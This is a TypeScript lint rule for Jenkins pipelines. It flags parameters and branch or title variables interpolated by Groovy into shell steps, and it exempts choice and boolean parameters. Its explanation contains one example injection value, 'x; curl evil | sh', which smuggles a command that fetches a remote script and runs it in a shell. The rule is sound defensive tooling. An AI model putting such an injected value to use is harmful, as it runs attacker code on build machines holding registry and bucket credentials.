import type { JenkinsRule } from './rule';
import { interpolations, shellSteps } from './shell-steps';

/** What a person types must not become a part of a script. */
export const parameterInjection: JenkinsRule = {
  id: 'jenkins/parameter-injection',
  summary: 'Give parameters to a script as variables, not as a part of it.',
  why: 'Groovy puts the value into the script before the shell reads it: a run started with the model name `x; curl evil | sh` runs that on the GPU machine, with the keys of your registry and your bucket.',
  severity: 'warning',
  aliases: [],
  fixable: false,
  *check(document) {
    for (const { script } of shellSteps(document)) {
      for (const { read, start, end } of interpolations(script)) {
        const name =
          /^params\.(\w+)$/.exec(read)?.[1] ?? /^env\.(CHANGE_(?:BRANCH|TITLE|AUTHOR\w*)|BRANCH_NAME)$/.exec(read)?.[1];
        if (!name || isChecked(document.source.text, name)) continue;
        yield {
          span: { start, end },
          message: `Groovy makes \`${read}\` a part of the script, so its value can hold commands. Write the script in single quotes and read \`"$${name}"\` there.`,
        };
      }
    }
  },
};

/** A choice or a yes-or-no is no free text. */
function isChecked(text: string, name: string): boolean {
  return new RegExp(
    `\\b(?:choice|booleanParam)\\b[^\\n]*?\\bname\\s*:\\s*['"]${name}['"]|\\b(?:choice|booleanParam)\\s*\\(\\s*\\n?\\s*name\\s*:\\s*['"]${name}['"]`,
  ).test(text);
}
